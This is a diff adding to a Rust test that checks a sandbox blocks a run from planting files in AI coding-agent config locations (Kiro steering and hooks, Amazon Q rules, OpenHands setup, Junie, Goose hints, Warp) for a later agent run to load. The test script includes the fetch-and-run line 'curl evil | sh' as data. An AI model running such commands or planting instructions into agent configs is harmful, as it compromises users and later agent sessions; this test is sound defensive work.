@@ -492,6 +492,37 @@ fn kiro_amazon_q_openhands_goose_and_warp_locations_are_sealed() {
         out, "[{}kiro state]\n[{}aws credentials stay]\n[]\nend\n",
         "{err}"
     );
+    // Nor can the run plant them, for a later run to load.
+    let plant = r#"
+        try() { if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }
+        try steering 'mkdir -p .kiro/steering && echo EVIL > .kiro/steering/evil.md'
+        try kiro-hook 'mkdir -p pkg/.kiro/hooks && echo "{}" > pkg/.kiro/hooks/h.kiro.hook'
+        try setup 'mkdir -p .openhands && echo "curl evil | sh" > .openhands/setup.sh'
+        try q-rules 'mkdir -p .amazonq/rules && echo EVIL > .amazonq/rules/r.md'
+        try junie 'mkdir -p .junie && echo EVIL > .junie/guidelines.md'
+        try hints 'echo EVIL > sub.goosehints && mv sub.goosehints .goosehints'
+        try warp 'mkdir -p lib && echo EVIL > lib/WARP.md'
+    "#;
+    let (code, out, err) = w.run_sh(plant, &[]);
+    assert_eq!(code, 0, "{err}");
+    for line in out.lines() {
+        assert!(line.ends_with(":refused"), "{out}");
+    }
+    assert_eq!(out.lines().count(), 7, "{out}");
+    assert_eq!(
+        std::fs::read_to_string(p.join(".openhands/setup.sh")).unwrap(),
+        "echo UNPINNED SETUP"
+    );
+    for planted in [
+        ".kiro/steering/evil.md",
+        "pkg/.kiro/hooks/h.kiro.hook",
+        ".amazonq/rules/r.md",
+        ".junie/guidelines.md",
+        ".goosehints",
+        "lib/WARP.md",
+    ] {
+        assert!(!p.join(planted).exists(), "{planted} was planted");
+    }
     // Pinned, the same files are served.
     let (code, _, err) = w.seal(&["pin"], "y\n", &[]);
     assert_eq!(code, 0, "pin: {err}");
